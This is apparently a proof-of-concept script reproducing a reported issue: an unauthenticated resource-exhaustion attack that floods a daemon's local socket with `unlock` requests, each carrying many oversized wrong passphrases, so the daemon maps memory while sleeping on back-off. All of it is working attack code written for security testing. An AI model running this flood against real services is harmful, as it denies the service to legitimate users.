"""Unauthenticated mappings by unlock requests (issue 13, attack 2).

usage: unlock_flood.py SOCKET CONNECTIONS SECRETS SIZE SECONDS

Each connection sends one `unlock` carrying SECRETS wrong passphrases of SIZE bytes (more than
the guarded pool's largest slot, so each would get its own mappings), while the back-off makes
the daemon sleep on them. After SECONDS, everything closes.

Lines out: `sent N of M`, then `done replies R closed C`.
"""
import os
import select
import sys
import time

import wire

path, count, secrets, size, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
start = time.monotonic()
message = wire.request(wire.OP_UNLOCK, secrets=[os.urandom(size) for _ in range(secrets)])
conns = wire.connect_many(path, count)
pending = {s: 0 for s in conns}
# Round robin, so that no connection waits for another's frame to be read.
while pending and time.monotonic() - start < seconds:
    for s in list(pending):
        try:
            pending[s] += s.send(message[pending[s]:pending[s] + 65536])
        except BlockingIOError:
            continue
        except OSError:
            del pending[s]
            continue
        if pending[s] == len(message):
            del pending[s]
    if pending:
        select.select([], list(pending), [], 0.05)
wire.say("sent", len(conns) - len(pending), "of", count)

replies = closed = 0
open_ = set(conns)
while open_ and time.monotonic() - start < seconds:
    ready, _, _ = select.select(list(open_), [], [], 0.2)
    for s in ready:
        try:
            data = s.recv(65536)
        except OSError:
            data = b""
        if data:
            replies += 1
        else:
            closed += 1
        open_.discard(s)
wire.close_all(conns)
wire.say("done", "replies", replies, "closed", closed)
